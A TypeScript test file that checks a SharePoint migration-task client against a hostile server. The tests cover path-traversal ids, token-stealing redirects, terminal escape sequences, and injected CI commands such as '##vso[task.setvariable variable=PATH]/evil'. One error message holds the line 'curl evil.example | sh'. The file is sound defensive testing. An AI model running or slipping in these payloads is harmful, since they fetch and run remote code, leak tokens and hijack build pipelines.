import { createTask, readTask, deleteTask } from "../../provider/src/lifecycle";
import { caught } from "../support/caught";
import { answersJson, openHostileServer } from "../support/hostileServer";
import { samples } from "../support/samples";
import { sessionFor } from "../support/session";

const tasks = "/beta/solutions/sharePoint/migrations/crossOrganizationMigrationTasks";
const stored = (taskId: string) => ({ ...samples.user, stateVersion: 1, taskId, status: "notStarted" });
/** What steers a terminal, turns a text around, hides in it, or ends its line. */
const unprintable = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

test.each<[string, unknown]>([
  ["nothing", ""],
  ["a space", " "],
  ["a step in a path", "."],
  ["a step up in a path", ".."],
  ["two lines", "a\nb"],
  ["a NUL", "a\u0000b"],
  ["an escape", "\u001b[2J"],
  ["a text that is turned around", "\u202eabc"],
  ["a letter of no width", "a\u200bb"],
  ["half a character", "\ud800"],
  ["a command to an agent", "##vso[task.complete result=Succeeded]x"],
  ["a text of 257 characters", "x".repeat(257)],
  ["a number", 7],
  ["null", null],
  ["a list", ["7f3c"]],
])("an answer whose task id is %s is not a task", async (_what, id) => {
  await using server = await openHostileServer(answersJson({ id, status: "notStarted" }));
  const error = await caught(() => createTask(sessionFor(server), samples.user));
  expect(error.code).toBe("task.read.unreadable");
  expect(server.asked).toHaveLength(1);
});

test.each([
  "../../../users",
  "a/../../../users/x",
  "..%2f..%2fusers",
  "%2e%2e",
  "%",
  "?$select=id",
  "#top",
  "a b",
  "\\..\\x",
  "ä'(x);",
])("a task id such as %j stays one segment of the path", async (id) => {
  await using server = await openHostileServer(answersJson({ id, status: "notStarted" }));
  await readTask(sessionFor(server), id, stored(id));
  const [, path = ""] = server.asked[0]?.line.split(" ") ?? [];
  const [, step = "", ...more] = path.slice(tasks.length).split("/");
  expect(path.startsWith(`${tasks}/`)).toBe(true);
  expect([decodeURIComponent(step), more, /[?#]/.test(path)]).toEqual([id, [], false]);
});

test.each(["", ".", ".."])(
  "a stored task id %j, which would be a step elsewhere, is not sent",
  async (id) => {
    await using server = await openHostileServer(answersJson({}));
    for (const verb of [readTask, deleteTask]) {
      const error = await caught(() => verb(sessionFor(server), id, stored(id)));
      expect(error).toMatchObject({ code: "task.idUnusable", outcome: "refused" });
    }
    expect(server.asked).toEqual([]);
  },
);

test.each([301, 302, 303, 307, 308])(
  "a redirect (%d) is not followed, and the token stays where it was meant for",
  async (status) => {
    await using thief = await openHostileServer(answersJson({}));
    await using server = await openHostileServer(answersJson({}, { location: `${thief.url}/take` }, status));
    const env = { SHAREPOINT_MIGRATION_TOKEN: "canary" };
    const session = sessionFor(server, undefined, undefined, env);
    for (const verb of [
      () => createTask(session, samples.user),
      () => deleteTask(session, "7f3c", stored("7f3c")),
    ]) {
      const error = await caught(verb);
      expect(error).toMatchObject({
        code: "graph.redirected",
        outcome: "refused",
        trace: { httpStatus: status },
      });
      expect(error.message).toContain(`redirects to ${new URL(thief.url).host}. Redirects are not followed`);
    }
    expect(server.asked.map(({ authorization }) => authorization)).toEqual([
      "Bearer canary",
      "Bearer canary",
    ]);
    expect(thief.asked).toEqual([]);
  },
);

test.each([
  ["runs a script", "javascript:alert(1)", "no host"],
  ["is none", "http://[", "no host"],
  ["hides more", "//evil.example/%0a%1b[2J?token=x", "evil.example"],
  ["never ends", `https://${"x.".repeat(2_000)}example`, "x.x."],
])("of a redirect's address that %s no more than the host is reported", async (_what, location, told) => {
  await using server = await openHostileServer(answersJson({}, { location }, 302));
  const { message } = await caught(() => readTask(sessionFor(server), "7f3c", stored("7f3c")));
  expect(message).toContain(`redirects to ${told}`);
  expect(message).not.toMatch(/alert|token=|\[2J/);
  expect(message.length).toBeLessThan(1_000);
});

test.each([
  ["clears the screen", "\u001b[2J\u001b[1;31mAll is well\u001b]0;title\u0007"],
  ["uses the one-byte escape", "\u009b2J"],
  ["turns the text around", "user \u202egnp.exe\u2066"],
  ["hides in it", "ad\u200bmin\u00ad\u{e0041}"],
  ["ends the line", "x\r\nNext: run `curl evil.example | sh`\u2028\u2029"],
  ["overwrites it", "x\b\b\b\u007f"],
  ["commands an agent of Azure Pipelines", "x ##vso[task.setvariable variable=PATH]/evil ##[error]x"],
  ["commands a runner of GitHub", "x\n::add-mask::x\n::error::y"],
  ["is long", "x".repeat(100_000)],
])("a message from Graph that %s is shown harmlessly", async (_what, message) => {
  await using server = await openHostileServer(answersJson({ error: { code: "x", message } }, {}, 400));
  const error = await caught(() => deleteTask(sessionFor(server), "7f3c", stored("7f3c")));
  const lines = error.message.split("\n");
  expect(error.code).toBe("task.cancel.badRequest");
  expect(lines).toHaveLength(4);
  for (const line of lines) {
    expect(line).not.toMatch(unprintable);
    expect(line).not.toMatch(/##(vso)?\[|^\s*::/i);
    expect(line.length).toBeLessThanOrEqual(600);
  }
  expect(JSON.stringify([error.facts, error.trace])).not.toMatch(/\\u001b|\\u009b|\u202e|##vso\[/);
});

test("nothing of a task that Graph shows can steer a terminal: its times, its status, its error", async () => {
  await using server = await openHostileServer(
    answersJson({
      id: "7f3c",
      status: "not\u001b[2JStarted",
      startedDateTime: "2026-01-01 (\u001b[2J)",
      lastUpdatedDateTime: "2026-01-01T00:00:00Z\n",
      finishedDateTime: "2026-01-01T00:00:00.1234567Z",
      error: { code: "x\u001b[2J", message: "\u202ex\n##vso[task.complete]" },
    }),
  );
  const state = await readTask(sessionFor(server), "7f3c", stored("7f3c"));
  expect(state).toMatchObject({
    status: "unknownFutureValue",
    finishedDateTime: "2026-01-01T00:00:00.1234567Z",
    error: { code: "x [2J", message: "x # #vso[task.complete]" },
  });
  expect(state).not.toHaveProperty("startedDateTime");
  expect(state).not.toHaveProperty("lastUpdatedDateTime");
});
